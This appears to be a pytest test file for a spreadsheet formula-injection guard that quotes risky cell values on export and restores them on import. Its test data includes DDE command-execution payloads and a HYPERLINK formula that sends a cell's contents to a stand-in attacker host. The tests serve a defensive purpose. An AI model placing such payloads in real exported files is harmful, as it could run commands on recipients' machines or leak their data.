"""The formula guard pair: neutralise on export, unneutralise on import, exact both ways."""

from __future__ import annotations

import pytest

from station_desk.exchange.formula_guard import neutralise, unneutralise, unneutralise_row

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_get_one_quote_and_come_back(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert unneutralise(neutralise(payload)) == payload


@pytest.mark.parametrize("text", ["张三", "", "'", "'abc", "'=x", "''=x", "a=b", "１＝１", "'''"])
def test_every_other_text_round_trips_exactly(text: str) -> None:
    assert unneutralise(neutralise(text)) == text
    if text.lstrip("'")[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(text) == text


def test_csv_text_column_tab_then_quote_is_read_back_and_numbers_pass() -> None:
    assert unneutralise("\t'=1") == "\t=1"
    assert unneutralise_row(["'=1", 5, None, "'x"]) == ["=1", 5, None, "'x"]
